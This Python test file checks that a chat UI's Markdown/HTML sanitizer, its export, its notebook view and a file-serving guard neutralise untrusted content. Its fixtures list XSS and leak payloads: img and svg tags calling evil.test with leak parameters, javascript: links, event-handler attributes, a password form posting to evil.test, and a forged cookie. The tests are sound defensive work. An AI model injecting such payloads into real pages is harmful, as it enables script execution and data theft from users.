"""The sanitizer on its own, and every view that uses it: nothing a model, a user or an imported
file writes comes out live (no element with attributes, no image that is not ``data:``), while
code, math and ordinary Markdown come out as they went in."""

from __future__ import annotations

import html
import re
from pathlib import Path

import httpx
import pytest

from glmv_ui.conversation import Conversation, Turn
from glmv_ui.export import to_markdown
from glmv_ui.nb.render import reply_html
from glmv_ui.reply import Reply
from glmv_ui.sanitize import (
    OWN_MARKS,
    chat_markdown,
    markdown_html,
    plain_markdown,
    remote_images,
)
from glmv_ui.ui.views import turn_messages
from glmv_ui.ui.web import COOKIE, CSP, FileGuard, SecurityHeaders
from tests.conftest import run_async

# An unescaped "<" that opens anything but a bare allowed tag, our box mark, or a link
# destination in angle brackets.
LIVE_TAG = re.compile(
    r"(?<!\\)(?<!\]\()<(?!/?(?:b|strong|i|em|u|s|del|ins|sub|sup|small|mark|"
    r"kbd|code|br|hr|p|details|summary|blockquote|ul|ol|li|table|thead|tbody|tr|th|td|h[1-6])"
    r"\s*/?>)(?!mark class=\"glmv-box\">)[A-Za-z!/?]",
    re.IGNORECASE,
)

HOSTILE = [
    '<img src="http://evil.test/p?leak=1">',
    "<IMG SRC=http://evil.test/p>",
    "<svg><image href=http://evil.test/p /></svg>",
    "<video src=http://evil.test/v></video>",
    "<form action=http://evil.test/f><input name=password type=password><button>Go</button>",
    "<a href=javascript:alert(1)>x</a>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<details open ontoggle=alert(1)>",
    '<b onclick="alert(1)">bold</b>',
    "<style>@import 'http://evil.test/c.css'</style>",
    "<math><mi xlink:href=http://evil.test>x</mi></math>",
    "\\`<img src=http://evil.test/bs>`",
    "[x](u`)<img src=http://evil.test/dest>`)",
    "  ```\n- item\n<img src=http://evil.test/fence>",
    "<http://evil.test/autolink>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_no_element_with_attributes_survives(text: str) -> None:
    out = chat_markdown(text)
    assert not LIVE_TAG.search(out), out
    assert "![" not in out.replace("!\\[", "")


@pytest.mark.parametrize(
    "text",
    [
        "![x](http://127.0.0.1:9/p?leak=secret)",
        "![x]( <http://evil.test/a b> )",
        '![x](http://evil.test/t "title")',
        "![x][r]\n\n[r]: http://evil.test/ref",
        "![x]",
        "![a ![b](http://evil.test/in)](http://evil.test/out)",
    ],
)
def test_images_become_links_or_text(text: str) -> None:
    out = chat_markdown(text)
    assert not re.search(r"(?<!\\)!\[", out), out
    html = markdown_html(out)
    assert "<img" not in html, html


def test_remote_image_names_its_host() -> None:
    out = chat_markdown("see ![chart](https://cdn.example.org/c.png?u=1)")
    assert out == (
        "see [🖼 chart (image on cdn.example.org, not loaded)](<https://cdn.example.org/c.png?u=1>)"
    )
    assert (
        remote_images("![a](http://h.test/x) ![b](data:image/png;base64,AAAA)")[0].host == "h.test"
    )


def test_data_images_and_own_marks_stay() -> None:
    assert (
        chat_markdown("![dot](data:image/png;base64,iVBORw0KGgo=)")
        == "![dot](data:image/png;base64,iVBORw0KGgo=)"
    )
    marked = '<mark class="glmv-box">[1,2,3,4]</mark> <mark class="x">'
    assert (
        chat_markdown(marked, OWN_MARKS)
        == '<mark class="glmv-box">[1,2,3,4]</mark> &lt;mark class="x">'
    )


@pytest.mark.parametrize(
    "text",
    [
        "# Title\n\n- **bold** and *it*\n\n| a | b |\n|---|---|\n| 1 | 2 |",
        'Use `<div class="x">` here.',
        '```html\n<!DOCTYPE html>\n<img src="http://a/b">\n```',
        "~~~\n<script>x</script>\n~~~",
        "Math: $a_1 + b^2$ and $$\\frac{1}{2}$$",
        "[a link](https://example.org/page)",
        "line<br>break, H<sub>2</sub>O, x<sup>2</sup>",
    ],
)
def test_ordinary_markdown_is_unchanged(text: str) -> None:
    assert chat_markdown(text, OWN_MARKS) == text


def test_html_is_text_that_reads_the_same() -> None:
    out = chat_markdown("if a<b then <img src=x>")
    assert out == "if a&lt;b then &lt;img src=x>"
    assert markdown_html(out).strip() == "<p>if a&lt;b then &lt;img src=x&gt;</p>"


def test_plain_markdown_escapes_every_active_character() -> None:
    name = "<img src=x>![a](b)`c`*d*_e_|f|$g$&amp;.png"
    out = plain_markdown(name)
    rendered = markdown_html(out)
    assert "<img" not in rendered
    assert "<code>" not in rendered
    assert "<em>" not in rendered
    assert html.unescape(re.sub(r"\\(.)", r"\1", out)) == name
    assert "<" not in out
    assert "\\[" not in out
    assert "\\(" not in out
    assert plain_markdown("- starts a list") == "\\- starts a list"


def test_linear_in_the_text() -> None:
    from tests.helpers import python_steps

    unit = "Text with <b>tags</b>, `code <x>`, ![i](http://h/i) and $x<y$.\n"
    small = python_steps(chat_markdown, unit * 100)
    big = python_steps(chat_markdown, unit * 1000)
    assert big < 2 * 10 * small  # 10x the text: linear is about 10x the work, quadratic 100x


def _reply(raw: str) -> Reply:
    return Reply.from_raw(raw)


def test_chat_messages_carry_no_live_markup() -> None:
    reply = _reply(
        "<think>![t](http://evil.test/think) <img src=http://evil.test/t2></think>"
        "<answer>Box <|begin_of_box|>[1,2,3,4]<|end_of_box|> "
        "<input type=image src=http://evil.test/in></answer>"
    )
    messages = turn_messages(
        "<img src=http://evil.test/user> ![u](http://evil.test/u)",
        [("/tmp/x.png", "<svg onload=alert(1)>.png · 1 image")],
        reply,
    )
    texts = [m["content"]["text"] for m in messages if "text" in m["content"]]
    joined = "\n".join(texts)
    assert 'mark class="glmv-box"' in joined
    for text in texts:
        cleaned = text.replace('<div class="glmv-stats">', "").replace("</div>", "")
        assert not LIVE_TAG.search(cleaned), text
        assert "<img" not in markdown_html(text)


def test_markdown_export_neutralises_fields() -> None:
    turn = Turn(
        text="<img src=http://evil.test/q> ![q](http://evil.test/q2)",
        raw="<think><svg><image href=http://evil.test/th /></svg></think>"
        "<answer>![a](http://evil.test/a) <form action=http://evil.test/f></answer>",
        status="error",
        error="<img src=http://evil.test/err>",
    )
    md = to_markdown(
        Conversation([turn], system_prompt="<img src=http://e/s>", model="<b onclick=x>m</b>")
    )
    rendered = markdown_html(md)
    assert "<img" not in rendered
    assert "<form" not in rendered
    assert "<svg" not in rendered
    assert "image on evil.test" in md
    assert not LIVE_TAG.search(
        md.replace("<details><summary>Thought</summary>", "").replace("</details>", "")
    )


def test_notebook_view_makes_no_remote_image() -> None:
    out = reply_html(
        _reply(
            "<think>x</think><answer>![x](http://host.test/leak?c=secret) "
            "<img src=http://host.test/raw></answer>"
        )
    )
    assert "<img" not in out.replace('<img alt="', "")  # only a drawn figure could be an img
    assert "image on host.test" in out


# -- the middleware, through httpx's ASGI transport ------------------------------------------


async def _app(scope: dict, receive: object, send: object) -> None:
    body = b'{"path": "/srv/guarded/a/f.png", "url": "/gradio_api/file=/srv/guarded/a/f.png"}'
    if "file=" in scope["path"]:
        body = b"PNG"
    elif scope["path"] != "/config":
        body = b"{}"
    await send(
        {
            "type": "http.response.start",
            "status": 200,  # type: ignore[operator]
            "headers": [(b"content-type", b"application/json")],
        }
    )
    await send({"type": "http.response.body", "body": body})  # type: ignore[operator]


def test_file_guard_serves_only_the_browser_it_named_the_file_to() -> None:
    # In a thread of its own: a browser test in the same run keeps Playwright's loop running.
    run_async(_file_guard())


async def _file_guard() -> None:
    app = SecurityHeaders(FileGuard(_app, roots=["/srv/guarded"]))  # type: ignore[arg-type]
    transport = httpx.ASGITransport(app=app)  # type: ignore[arg-type]
    url = "/gradio_api/file=/srv/guarded/a/f.png"
    async with (
        httpx.AsyncClient(transport=transport, base_url="http://t") as one,
        httpx.AsyncClient(transport=transport, base_url="http://t") as two,
    ):
        first = await one.get("/config")
        assert first.headers["content-security-policy"] == CSP
        assert COOKIE in first.cookies
        assert (await one.get(url)).status_code == 200
        assert (await one.get("/gradio_api/file=/srv/guarded/a/../a/f.png")).status_code == 200
        assert (await one.get("/gradio_api/file=/srv/guarded/a/other.png")).status_code == 404
        await two.get("/")
        assert (await two.get(url)).status_code == 404
    async with httpx.AsyncClient(transport=transport, base_url="http://t") as bare:
        assert (await bare.get(url)).status_code == 404
        forged = await bare.get(url, headers={"cookie": f"{COOKIE}=" + "a" * 32})
        assert forged.status_code == 404


def test_corpus_outputs_are_unchanged(corpus: Path) -> None:
    """Real model outputs: the chat gets exactly the Markdown it got before the sanitizer."""
    files = sorted((corpus / "raw_outputs").glob("*.txt"))
    assert len(files) >= 20
    for path in files:
        reply = Reply.from_raw(path.read_text(encoding="utf-8"))
        assert chat_markdown(reply.markdown(), OWN_MARKS) == reply.markdown(), path.name
        assert chat_markdown(reply.thinking) == reply.thinking, path.name


def test_backtick_runs_are_read_once() -> None:
    """Runs of every length, unmatched and nested: time linear in the text (was quadratic)."""
    from tests.helpers import python_steps

    def cost(reps: int) -> int:
        text = "".join("`" * k + "x<" for k in range(1, 300)) * reps
        assert chat_markdown(text).count("`") == text.count("`")
        return python_steps(chat_markdown, text)

    small, big = cost(2), cost(20)
    assert big < 2 * 10 * small  # 10x the text: linear is about 10x the work, quadratic 100x
